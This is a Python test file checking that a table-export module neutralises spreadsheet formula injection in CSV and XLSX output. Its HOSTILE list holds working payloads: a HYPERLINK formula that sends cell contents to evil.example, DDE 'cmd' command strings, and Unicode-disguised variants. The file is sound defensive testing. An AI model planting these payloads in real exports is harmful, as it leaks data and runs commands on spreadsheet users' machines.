"""Exports: formulas neutralised for spreadsheets, values kept for programs."""

import csv
import io
import json

import pandas as pd
import pytest
from openpyxl import load_workbook

from explorer.table_files import neutralise, to_csv_bytes, to_json_bytes, to_xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    # Skipped by a spreadsheet or unseen by a reader before the formula (issue 22, extras):
    "\n=1+1",  # a leading line break
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    '\ufe66HYPERLINK("http://evil.example")',  # small-form equals sign
    "\ufe62cmd|' /C calc'!A0",  # small-form plus
    "\ufe63cmd|' /C calc'!A0",  # small-form hyphen-minus
    "\ufe6bSUM(1+1)",  # small-form commercial at
    "＋cmd|' /C calc'!A0",  # full-width plus
    "－cmd|' /C calc'!A0",  # full-width minus
    "＠SUM(1+1)",  # full-width at
    "\u00a0\u200b\n ＝1+1",  # several in a row
]
HARMLESS = ["+8613812345678", "-250.5", "1,000", "Zhang Wei", "a=b", "", "phone: +86 138", "\u200bZhang", " \u00a0"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formulas_get_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_values_unchanged(value):
    assert neutralise(value) == value


def _table():
    return pd.DataFrame({"name": HOSTILE + ["张伟"], "amount": list(range(len(HOSTILE))) + [-5]})


def test_csv_cells_neutralised():
    text = to_csv_bytes(_table()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(r["name"].startswith("'") for r in rows[:-1])
    assert rows[-1] == {"name": "张伟", "amount": "-5"}


def test_xlsx_cells_are_text_never_formulas():
    book = load_workbook(io.BytesIO(to_xlsx_bytes(_table(), sheet_name="ring: 3/4")))
    sheet = book.active
    values = [c.value for c in sheet["A"]][1:]
    assert values[:-1] == ["'" + v for v in HOSTILE] and values[-1] == "张伟"
    assert all(c.data_type == "s" for c in sheet["A"])
    assert sheet["B"][-1].value == -5 and sheet.title == "ring_ 3_4"


def test_json_keeps_values_exactly():
    rows = [{"name": v, "n": None} for v in HOSTILE]
    assert json.loads(to_json_bytes(rows)) == rows


def test_list_of_dicts_and_nested_values():
    data = [{"name": "=1+1", "aliases": ["a", "=b"]}]
    text = to_csv_bytes(data).decode("utf-8-sig")
    assert "'=1+1" in text
